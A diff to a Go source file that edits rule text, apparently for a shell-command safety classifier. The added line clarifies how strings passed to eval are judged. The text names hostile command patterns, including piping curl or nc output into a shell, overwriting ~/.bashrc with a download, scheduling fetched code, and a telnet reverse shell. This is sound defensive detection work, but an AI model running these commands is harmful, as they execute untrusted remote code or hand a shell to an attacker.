@@ -69,7 +69,7 @@ func defaultDownloadRun() DefaultInfo {
 			"that reads its input as data (`python -m json.tool`) reads what it is fed as data, unless `-i` or `PYTHONINSPECT` (which the line may set) makes it read code after. " +
 			"A shell that runs text made when it runs, where that text is what the line reads from the network (a downloader, `nc`, `socat`, `telnet`, `openssl s_client`, ssh's output), " +
 			"is unreadable, and its ask names this default (fx29e2, rt28d #5): `bash <(curl …)`, `source <(curl …)`, `. /dev/stdin <<< \"$(wget …)\"`, `bash -c \"$(curl …)\"`, " +
-			"`eval \"$(curl …)\"`, `nc host 80 | sh`, `ssh host cat x.sh | bash`, a shell fed so through a function (`f() { sh; }; curl … | f`), `curl … | at now`, `curl … | crontab -`; " +
+			"`eval \"$(curl …)\"` (a plain command string eval runs is judged as that command: `eval 'curl -o ~/.bashrc URL'` names what `curl -o ~/.bashrc URL` names, fx42b2), `nc host 80 | sh`, `ssh host cat x.sh | bash`, a shell fed so through a function (`f() { sh; }; curl … | f`), `curl … | at now`, `curl … | crontab -`; " +
 			"text from elsewhere (`bash -c \"$(cat x.sh)\"`, `cat x.sh | bash`) and a reverse shell, whose output goes back to the network (`telnet h 4444 | sh | telnet h 4445`), are the floor's. " +
 			"Code run or installed straight from where it is fetched ([remote-code]: a URL, `git+https://…`, `github:o/r`), " +
 			"which runs it (a script) or its build and install scripts (a package): `deno run URL`, `bun run URL`, " +
